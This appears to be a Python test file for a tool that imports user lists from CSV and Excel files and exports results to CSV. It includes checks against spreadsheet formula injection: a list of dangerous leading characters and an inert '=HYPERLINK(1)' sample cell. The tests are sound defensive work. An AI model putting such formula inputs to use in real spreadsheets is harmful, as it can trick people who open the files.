def test_results_csv_round_trips_every_cell() -> None:
    chance = random.Random(3)
    alphabet = "ab,;\"'=+-@\t\r\n xé€"
    rows = [["".join(chance.choices(alphabet, k=chance.randint(0, 8))) for _ in range(4)] for _ in range(500)]
    data = write_results_csv(rows, ["user", "state", "reason", "note"])
    read_back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(read_back) == 501
    for original, cells in zip(rows, read_back[1:], strict=True):
        for cell, back in zip(original, cells, strict=True):
            dangerous = cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")
            assert back == ("'" + cell if dangerous else cell)
            assert not back.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_a_reason_column_is_read_as_plain_text_per_row() -> None:
    file = read_text(
        f'userPrincipalName,Reason,lifetime\r\n{ALICE},"INC0012345 new laptop\r\n(second line)",2h\r\n{BOB},,\r\n'
    )
    assert file.columns == ("userPrincipalName", "lifetime", "reason")
    assert [(row.target, row.reason) for row in file.rows] == [
        (ALICE, "INC0012345 new laptop (second line)"),
        (BOB, ""),
    ]
    workbook = read(workbook_bytes(["UPN", "reason"], [ALICE, "=HYPERLINK(1)"], [BOB, 12345]), "users.xlsx")
    # A formula cell yields the value Excel last saved (none here), never an evaluation.
    assert [row.reason for row in workbook.rows] == ["", "12345"]


def test_a_misspelt_reason_column_is_named_not_ignored() -> None:
    assert "rename it to reason" in refusal(f"userPrincipalName,Reason (ticket)\r\n{ALICE},INC1\r\n".encode())
